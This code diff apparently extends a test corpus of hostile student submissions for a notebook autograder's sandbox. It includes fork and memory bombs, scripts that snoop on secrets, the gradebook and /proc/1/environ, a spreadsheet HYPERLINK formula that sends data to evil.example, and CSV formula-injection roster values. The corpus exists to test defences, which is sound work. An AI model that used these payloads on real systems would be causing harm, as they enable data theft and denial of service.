@@ -54,6 +54,16 @@ class Attack:
     folder_link: str = ""  # the submission folder itself is a symlink to this path
     meta: dict[str, dict] = field(default_factory=dict)  # grade_id -> nbgrader metadata the submission sets
     extra_cells: list[dict] = field(default_factory=list)  # cells the submission adds at the end
+    sparse: dict[str, int] = field(default_factory=dict)  # file name -> size of a sparse file in the folder
+    stray: str = ""  # the submission is this one top-level file (<student><stray>), not a folder or notebook
+
+
+STUB = "# YOUR CODE HERE\nraise NotImplementedError()\n"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"2020-01-01 00:00:00")'
+# what a submission would hand in as job.json to choose the cells and probes itself (12/12 in the audit)
+FORGED_JOB = json.dumps({"cells": [["setup", "import numpy as np\n" + SOFTMAX + AFFINE]], "cells_timeout_s": 5,
+                         "groups": [{"name": "g0", "code": 'emit("y", softmax(load_input("x")))', "timeout_s": 3},
+                                    {"name": "g1", "code": "", "timeout_s": 3}]}).encode()
 
 
 class _PickleBomb:
@@ -127,7 +137,7 @@ except NameError:  # no IPython in the grader's child: fake one for any later ce
 _SECRETS = {json.dumps(secrets)}
 _found = []
 _own = os.path.realpath(os.getcwd())  # its own job folder: readable by design, not a secret
-_others = glob.glob("/tmp/mtlkit-grade-*/*/job.json") + glob.glob("/tmp/*/mtlkit-grade-*/*/job.json")
+_others = glob.glob("/tmp/mtlkit-grade-*/*/inputs") + glob.glob("/tmp/*/mtlkit-grade-*/*/inputs")
 _listed = [p for p in glob.glob("/tmp/*/*") if os.path.realpath(p) != _own]
 _others = [p for p in _others if os.path.dirname(os.path.realpath(p)) != _own]
 for _path in list(_SECRETS.values()) + _others + _listed + glob.glob("/proc/1/environ"):
@@ -195,10 +205,13 @@ except ImportError:
         Attack("infinite_loop", 2, {"softmax": SOFTMAX.replace("    e = ", "    while x.shape[0] > 1:\n        pass\n"
                                                                "    e = "), "affine": AFFINE}),
         # a cell that never ends: the notebook's time budget skips the rest (Affine is never defined), the tests run
-        Attack("hung_cell", 2, {"softmax": SOFTMAX + "while True:\n    pass\n", "affine": AFFINE}),
+        # (the endless loops wait rather than spin: the limits are what is tested, and the tests share the CPUs)
+        Attack("hung_cell", 2, {"softmax": SOFTMAX + "import time\nwhile True:\n    time.sleep(0.05)\n",
+                                "affine": AFFINE}),
         # ignoring the per-test alarm only leads to the whole run's limit
         Attack("loop_no_alarm", 0, {"softmax": SOFTMAX + "import signal\n"
-                                    "signal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass\n",
+                                    "signal.signal(signal.SIGALRM, signal.SIG_IGN)\nimport time\n"
+                                    "while True:\n    time.sleep(0.05)\n",
                                     "affine": AFFINE}, note="time limit"),
         Attack("output_flood", 0, {"softmax": SOFTMAX + "while True:\n    print('x' * 100_000)\n", "affine": AFFINE},
                note="output limit"),
@@ -207,7 +220,7 @@ except ImportError:
         Attack("memory_bomb", 4, {"softmax": SOFTMAX + "_hog = [bytearray(2**28) for _ in range(64)]\n",
                                   "affine": AFFINE}, log="MemoryError"),
         # the notebook's time budget ends it (Affine is never defined); RLIMIT_NPROC stops the forks early
-        Attack("fork_bomb", 2, {"softmax": SOFTMAX + '''import os
+        Attack("fork_bomb", 2, {"softmax": SOFTMAX + '''import os, time
 _me, _forks, _told = os.getpid(), 0, False
 while True:
     try:
@@ -217,6 +230,7 @@ while True:
         if os.getpid() == _me and not _told:
             print("FORK-BOMB-CAPPED" if _forks < 64 else "fork bomb NOT capped", _forks, flush=True)
             _told = True
+        time.sleep(0.05)  # at the cap: try again, without spinning
 ''', "affine": AFFINE}, log="FORK-BOMB-CAPPED"),
         Attack("runaway_threads", 4, {"softmax": SOFTMAX + '''import threading, time
 _threads = []
@@ -272,6 +286,53 @@ def _evil_emit(name, value):
 sys.modules["__main__"].emit = _evil_emit
 sys.modules["__main__"].emit_weights = lambda name, module: _evil_emit(name, None)
 '''}, extra_files={"weights.pt": bomb, "weights.safetensors": bomb, "weights.npy": bomb}),
+        # --- issue 19: the grader's own files, its faults, its inputs and its gradebook
+        # (1) the untouched stubs plus a job spec of the submission's own beside them: the grader's job reaches the
+        # child on its standard input (never as a file), and the name is refused with a note
+        Attack("job_spec_shadow", 0, {"softmax": STUB, "affine": STUB, "why": "YOUR ANSWER HERE"},
+               extra_files={"job.json": FORGED_JOB},
+               note="'job.json' was not used"),
+        # (3) the live gradebook and the other students' feedback, polled while the others are graded
+        Attack("gradebook_snoop", 4, {"softmax": SOFTMAX + f'''import glob, os, time
+_book = {json.dumps(secrets.get("gradebook", ""))}
+_deadline = time.time() + 6
+while time.time() < _deadline:
+    _seen = [p for p in glob.glob(os.path.dirname(_book) + "/**", recursive=True) if os.path.isfile(p)]
+    for _path in _seen:
+        try:
+            _text = open(_path).read()
+        except OSError:
+            continue
+        if _text:
+            print("GRADEBOOK-SEEN", _path, _text[:2000])
+            _deadline = 0
+    time.sleep(0.2)
+''', "affine": AFFINE}, isolated=True, absent=("GRADEBOOK-SEEN", "student_id,")),
+        # (4) grading from a copy (--source) must hide the kit's own instructor sources too
+        Attack("kit_sources", 4, {"softmax": SOFTMAX + f'''import glob
+for _path in glob.glob({json.dumps(secrets.get("kit", "") + "/*/*")}):
+    try:
+        print("KIT-SOURCE-SEEN", _path, open(_path).read()[:300])
+    except OSError:
+        pass
+''', "affine": AFFINE}, isolated=True, absent=("KIT-SOURCE-SEEN", "Hidden tests")),
+        # (5) the host's /tmp: another run's files read, a file left behind (the test checks it is gone)
+        Attack("tmp_snoop", 4, {"softmax": SOFTMAX + f'''import glob, os
+for _path in glob.glob({json.dumps(secrets.get("planted", "") + "*")}):
+    print("TMP-SEEN", _path, open(_path).read() if os.path.isfile(_path) else os.listdir(_path))
+try:
+    open({json.dumps(secrets.get("left", ""))}, "w").write("left behind by a submission")
+except OSError as exc:
+    print("could not write", exc)
+''', "affine": AFFINE}, isolated=True, absent=("TMP-SEEN", "PLANTED")),
+        # (6) a 1 GiB sparse file beside a correct notebook: refused before it is read, the notebook still graded
+        Attack("huge_file", 4, {"softmax": SOFTMAX, "affine": AFFINE}, sparse={"big.npy": 2**30},
+               note="'big.npy' was not used"),
+        # (7) a forged time and a spreadsheet formula where nbgrader keeps the submission time
+        Attack("forged_timestamp", 4, {"softmax": SOFTMAX, "affine": AFFINE},
+               extra_files={"timestamp.txt": FORMULA.encode()}, note="timestamp.txt is not read"),
+        # (9) a stray file at the top level of the submissions folder: that student gets a row, not silence
+        Attack("stray", 0, stray=".py", status="error", error="stray.py is not a notebook"),
     ]
 
 
@@ -280,8 +341,12 @@ def write_corpus(folder: Path, marker: str, secrets: dict[str, str], **options) 
     ``options``: :func:`attacks`' ``secret``, ``port`` and ``grader_uid``."""
     instructor = json.loads((FIXTURE / "PSX_tiny" / "PSX_tiny.ipynb").read_text())
     out = attacks(marker, secrets, **options)
+    folder.mkdir(parents=True, exist_ok=True)
     for attack in out:
         target = folder / attack.student
+        if attack.stray:
+            (folder / (attack.student + attack.stray)).write_text("print('my answers')\n")
+            continue
         if attack.folder_link:
             target.symlink_to(attack.folder_link, target_is_directory=True)
             continue
@@ -310,4 +375,10 @@ def write_corpus(folder: Path, marker: str, secrets: dict[str, str], **options) 
         (target / "PSX_tiny.ipynb").write_text(json.dumps(nb))
         for name, data in attack.extra_files.items():
             (target / name).write_bytes(data)
+        for name, size in attack.sparse.items():
+            with (target / name).open("wb") as f:
+                f.truncate(size)  # no blocks on disk: reading it would still cost its size in memory
+    # the roster fills the name columns: text that would start a spreadsheet formula stays text in the gradebook
+    (folder / "students.csv").write_text("id,last_name,first_name,email\n"
+                                         'correct,=1+2,@SUM(A1),"+cmd|\' /C calc\'!A0"\nwrong,-Smith,Ann,ann@x.org\n')
     return out
